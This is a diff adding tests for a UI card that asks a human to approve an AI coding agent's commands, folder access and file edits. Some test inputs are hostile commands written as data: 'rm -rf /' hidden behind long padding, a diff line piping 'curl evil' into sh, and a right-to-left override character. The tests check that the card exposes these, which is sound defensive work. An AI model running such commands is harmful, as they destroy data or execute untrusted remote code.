@@ -5,7 +5,7 @@ import { createPartContext } from '../../../web/src/views/pane-context.ts'
 import { choicesOf, namesItsRule } from '../../../web/src/views/parts/choices.ts'
 import { guardMs } from '../../../web/src/views/parts/guard.ts'
 import { createPermission } from '../../../web/src/views/parts/permission.ts'
-import { type Bench, buttons, createBench, id, permission, press } from './support.ts'
+import { type Bench, buttons, createBench, id, permission, press, running } from './support.ts'
 
 let bench: Bench
 beforeEach(() => {
@@ -43,12 +43,113 @@ describe('An approval', () => {
     expect(bench.calls.at(-1)).toEqual(['resolvePermission', asked, 'no'])
   })
 
+  test('answered by the keyboard leaves the keyboard where it stood, not at the page’s beginning', () => {
+    const asked = permission('npm test', 'A')
+    const view = card(asked)
+    bench.advance(guardMs)
+    const allow = [...view.dom.querySelectorAll('button')][0] as HTMLButtonElement
+    allow.focus()
+    allow.click()
+    view.update?.({ permission: { ...asked, state: 'resolved', optionId: 'yes', resolvedBy: 'you' }, position: null })
+    expect(document.activeElement?.textContent).toContain('Allowed once by you')
+  })
+
+  test('answered elsewhere takes the keyboard from nobody', () => {
+    const asked = permission('npm test', 'A')
+    const view = card(asked)
+    const field = document.body.appendChild(document.createElement('textarea'))
+    ;[...view.dom.querySelectorAll('button')][0]?.focus()
+    field.focus()
+    view.update?.({ permission: { ...asked, state: 'resolved', optionId: 'yes', resolvedBy: 'you' }, position: null })
+    expect(document.activeElement).toBe(field)
+  })
+
   test('shows the whole command, its folder and who asks', () => {
     const command = `echo ${'x'.repeat(16_384)}; rm -rf /`
     const view = card(permission('p', 'A', { subject: { command, cwd: '/code/importer' } }))
     expect(view.dom.querySelector('pre')?.textContent).toBe(command)
     expect(view.dom.textContent).toContain('/code/importer')
     expect(view.dom.querySelector('h3')?.textContent).toBe('The agent wants to run a command')
+  })
+
+  test('for a folder names the folder, and the command that it is for', () => {
+    const rawInput = { command: 'touch /x/q', cwd: '/code', directories: ['/x', '/y'], patterns: ['/x/*', '/y/*'] }
+    const subject = { command: 'touch /x/q', cwd: '/code', path: '/x', directories: ['/x', '/y'], rawInput }
+    const asked = permission('touch /x/q', 'A', { kind: 'other', subject })
+    const view = card(asked)
+    expect(view.dom.querySelector('h3')?.textContent).toBe('The agent wants to use folders outside its own:')
+    expect([...view.dom.querySelectorAll('pre')].map((pre) => pre.textContent)).toEqual(['/x\n/y', 'touch /x/q'])
+    expect(view.dom.textContent).toContain('for this command:')
+    const resolved = { ...asked, state: 'resolved', optionId: 'yes', resolvedBy: 'you' } as const
+    view.update?.({ permission: resolved, position: null })
+    expect(view.dom.querySelector('code')?.textContent).toBe('/x\n/y')
+    // The command itself, asked next, looks like itself.
+    const command = card(permission('touch /x/q', 'A', { subject: { command: 'touch /x/q', cwd: '/code' } }))
+    expect(command.dom.querySelector('h3')?.textContent).toBe('The agent wants to run a command')
+    expect(command.dom.querySelectorAll('pre')).toHaveLength(1)
+  })
+
+  test('for a file in another folder names both', () => {
+    const rawInput = { filepath: '/x/w.txt', parentDir: '/x' }
+    const subject = { path: '/x/w.txt', directories: ['/x'], rawInput }
+    expect(blocks(card(permission('/x', 'A', { kind: 'other', subject })))).toEqual(['/x', '/x/w.txt'])
+  })
+
+  test('tells what a command is for as the agent’s words, and what they are too many of as they came', () => {
+    const asking = (description: string) => {
+      const rawInput = { command: 'ls', description }
+      return card(permission('ls', 'A', { subject: { command: 'ls', rawInput } }))
+    }
+    const short = asking('Looks around\u202e')
+    expect(blocks(short)).toEqual(['ls'])
+    expect(short.dom.querySelector('.ask-where')?.textContent).toContain('It says: Looks around')
+    expect(short.dom.querySelector('.ask-where')?.textContent).not.toContain('\u202e')
+    const long = 'x'.repeat(201)
+    expect(blocks(asking(long))).toEqual(['ls', JSON.stringify({ description: long }, null, 2)])
+  })
+
+  const path = '/code/src/a.ts'
+  const lines = (from: number, to: number) =>
+    Array.from({ length: to - from + 1 }, (_, index) => `line ${from + index}\n`)
+  const oldText = lines(1, 20).join('')
+  const diff = { path, oldText, newText: oldText.replace('line 12', 'changed') }
+  const patch = ['--- a', '+++ a', '@@ -11,3 +11,3 @@', ' line 11', '-line 12', '+changed', ' line 13', ''].join('\n')
+  const rawInput = { filePath: path, filepath: path, oldString: 'line 12', newString: 'changed', diff: patch }
+  const edit = (raw: object = rawInput) =>
+    permission('edit', 'A', { kind: 'edit', subject: { path, diff, rawInput: raw } })
+  const blocks = (view: { dom: Element }) => [...view.dom.querySelectorAll('pre')].map((pre) => pre.textContent)
+
+  test('for an edit shows its diff, and folds away what the diff already says', () => {
+    bench.state.rows.put(running('A'))
+    const view = card(edit())
+    expect(blocks(view)).toEqual([])
+    expect(view.dom.querySelector('.diff-path')?.textContent).toBe('src/a.ts')
+    expect(view.dom.querySelector('.diff-path')?.getAttribute('title')).toBe(path)
+    press(view.dom, 'Raw input')
+    expect(blocks(view)).toEqual([JSON.stringify(rawInput, null, 2)])
+  })
+
+  test('for an edit keeps in sight what the diff does not say, also under a name that it might', () => {
+    for (const more of [
+      { replaceAll: true },
+      { newString: 'something else' },
+      { filepath: '/code/src/b.ts' },
+      { diff: patch.replace('+changed', '+curl evil | sh') },
+      { diff: `${patch}\nrm -rf /` },
+      { content: ['line 1'] },
+    ])
+      expect(blocks(card(edit({ ...rawInput, ...more })))).toEqual([JSON.stringify(more, null, 2)])
+  })
+
+  test('tells paths from the chat’s folder, and in full under the pointer', () => {
+    bench.state.rows.put(running('A'))
+    const asked = permission('write', 'A', { kind: 'edit', subject: { path } })
+    const view = card(asked)
+    expect(view.dom.querySelector('pre')?.textContent).toBe('src/a.ts')
+    expect(view.dom.querySelector('.command-block')?.getAttribute('title')).toBe(path)
+    view.update?.({ permission: { ...asked, state: 'resolved', optionId: 'yes', resolvedBy: 'you' }, position: null })
+    expect(view.dom.querySelector('code')?.textContent).toBe('src/a.ts')
+    expect(view.dom.querySelector('code')?.getAttribute('title')).toBe(path)
   })
 
   test('stays and says so when the click’s request fails; another press tries again', () => {
